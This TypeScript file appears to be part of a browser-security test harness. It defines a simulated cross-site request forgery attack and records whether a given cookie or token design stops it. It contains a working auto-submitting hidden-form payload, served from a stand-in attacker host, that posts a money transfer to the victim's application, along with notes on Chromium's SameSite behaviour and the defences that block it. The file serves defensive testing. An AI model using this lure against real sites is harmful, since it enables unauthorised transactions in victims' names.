// Threat: another site makes the victim's browser send a form to the application (CSRF). The attacker has a site and gets the victim to
// visit it. Expected: with no SameSite attribute Chromium still sends a cookie with a form for two minutes after it was set; Strict and
// bearer tokens are not sent.
import { EVIL, APP } from '../world/hosts.ts'
import { stopped, succeeded, type Attack } from '../attack.ts'

const page: NonNullable<Attack['lure']> = (_, app, { email }) => `<!doctype html>
<form action="${app}/api/transfer" method="post"><input name="to" value="${email}"></form>
<script>document.forms[0].submit()</script>`

export const formPost: Attack = {
  name: 'form-post',
  group: 'other sites',
  title: 'Another site posts a form in the victim’s name',
  what: 'The victim opens the attacker’s page, which at once submits a hidden form to the application: “send money to me”.',
  why: 'Browsers add cookies to requests by where they go, not by where they come from. A cookie without SameSite is “Lax”, but for two minutes after it was set Chromium sends it with such a form all the same.',
  stops:
    'SameSite=Strict or Lax written out, a token in a header, or a server that looks at where the request comes from.',
  lure: page,
  control: 'session',
  succeedsOn: ['session', 'readable-cookie', 'httponly-cookie'],
  async run(scene) {
    await scene.signIn()
    await scene.thief.publish({ address: `${EVIL}/prize`, body: page('evil', APP, scene.attacker) })
    await scene.lure(`${EVIL}/prize`, 'POST', '/api/transfer')
    return scene.ledger.find({ deed: 'transfer', by: scene.victim.email }).length > 0
      ? succeeded('the server counted a transfer from the victim to the attacker')
      : stopped('the form arrived, and the server counted no transfer')
  },
}
